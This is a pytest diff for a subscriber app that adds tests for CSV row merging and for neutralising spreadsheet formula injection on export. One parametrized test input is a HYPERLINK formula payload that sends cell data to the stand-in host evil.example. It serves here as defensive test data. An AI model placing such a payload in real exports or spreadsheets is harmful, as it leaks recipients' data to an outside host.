@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 from datetime import UTC, datetime
+from pathlib import Path
 
 import pytest
 from fastapi.testclient import TestClient
@@ -278,7 +279,7 @@ def test_security_headers_and_cross_site_posts(
 ) -> None:
     page = client.get("/")
     assert "frame-ancestors 'none'" in page.headers["content-security-policy"]
-    assert "script-src 'none'" in page.headers["content-security-policy"]
+    assert "script-src 'self';" in page.headers["content-security-policy"]  # no inline script
     assert page.headers["x-content-type-options"] == "nosniff"
     assert page.headers["referrer-policy"] == "same-origin"
     assert client.get("/feed.xml").headers["x-frame-options"] == "DENY"
@@ -357,11 +358,85 @@ def test_csv_import_export_round_trip_and_bad_rows(
             engine, bad, known_digests=["daily"], zone=settings.zone, now=NOW
         )
     details = caught.value.details  # type: ignore[attr-defined]
-    assert [d.split(": ", 1)[0] for d in details] == [f"{bad}:{n}" for n in (3, 4, 5, 6)]
+    # The same address twice merges (see below); every other bad row is named by its line.
+    assert [d.split(": ", 1)[0] for d in details] == [f"{bad}:{n}" for n in (3, 4, 5)]
     assert "not an email address" in details[0] and "status: 'vip'" in details[1]
-    assert "digests: unknown weekly" in details[2] and "also on line 2" in details[3]
+    assert "digests: unknown weekly" in details[2]
     with store.reading(engine) as session:
         assert store.subscriber_by_email(session, "ok@example.com") is None  # nothing imported
+
+
+def test_csv_rows_of_one_address_in_any_case_merge_the_later_values_winning(
+    engine: Engine, settings: Settings, tmp_path: Path
+) -> None:
+    listing = tmp_path / "list.csv"
+    listing.write_text(
+        "email,name,status,digests\n"
+        "Mei@Example.com,Mei,pending,\n"
+        "wei@example.com,Wei,confirmed,daily\n"
+        "MEI@example.com,Mei Ling,confirmed,\n"  # the same person: name and status win
+        "WEI@EXAMPLE.COM,,unsubscribed,\n"  # a blank name keeps "Wei"
+        "mei@example.com,,,\n"
+    )
+    done = community.import_subscribers(
+        engine, listing, known_digests=["daily"], zone=settings.zone, now=NOW
+    )
+    assert (done.created, done.updated, done.merged) == (2, 0, 3)
+    people = {v.subscriber.email: v.subscriber for v in community.list_subscribers(engine)}
+    assert set(people) == {"mei@example.com", "wei@example.com"}
+    assert (people["mei@example.com"].name, people["mei@example.com"].status) == (
+        "Mei Ling",
+        "confirmed",
+    )
+    assert (people["wei@example.com"].name, people["wei@example.com"].status) == (
+        "Wei",
+        "unsubscribed",
+    )
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("https://evil.example/?d="&A2,"Click")',
+        "+1 555",
+        "-2+3",
+        "@SUM(A1)",
+        "   =1+1",
+        "\t=1+1",
+        "'=1+1",  # a quote before a formula: it must come back as it was
+        "''@x",
+        "O'Brien",
+        "'plain",
+    ],
+)
+def test_exported_cells_never_run_as_formulas_and_import_back_unchanged(
+    engine: Engine, settings: Settings, tmp_path: Path, name: str
+) -> None:
+    import csv
+    import io
+
+    community.add_subscriber(
+        engine,
+        "=x@example.com",
+        name=name,
+        confirmed=True,
+        digests=[],
+        known_digests=["daily"],
+        now=NOW,
+    )
+    out = io.StringIO()
+    community.export_subscribers(engine, out)
+    [_header, *rows] = list(csv.reader(io.StringIO(out.getvalue())))
+    for cell in rows[0]:  # OWASP: no cell starts a formula, even after spaces
+        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert rows[0][0] == "'=x@example.com"
+    stored = community.list_subscribers(engine)[0].subscriber.name
+    copy = tmp_path / "export.csv"
+    copy.write_text(out.getvalue())
+    community.remove_subscriber(engine, "=x@example.com")
+    community.import_subscribers(engine, copy, known_digests=["daily"], zone=settings.zone, now=NOW)
+    [back] = community.list_subscribers(engine)
+    assert (back.subscriber.email, back.subscriber.name) == ("=x@example.com", stored)
 
 
 def test_500_concurrent_signups_lose_and_duplicate_nothing(
